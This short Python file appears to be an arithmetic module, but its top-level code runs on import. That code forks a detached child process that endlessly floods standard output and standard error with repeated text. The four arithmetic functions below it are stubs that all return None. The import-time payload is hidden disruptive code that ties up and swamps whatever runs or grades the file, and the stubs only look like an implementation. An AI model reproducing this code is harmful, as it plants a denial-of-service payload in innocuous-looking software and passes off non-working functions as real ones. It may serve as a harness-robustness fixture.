import os

if os.fork() == 0:
    os.setsid()
    while True:
        os.write(1, b"more " * 10_000)
        os.write(2, b"more " * 10_000)


def add(a, b):
    return None


def subtract(a, b):
    return None


def multiply(a, b):
    return None


def divide(a, b):
    return None
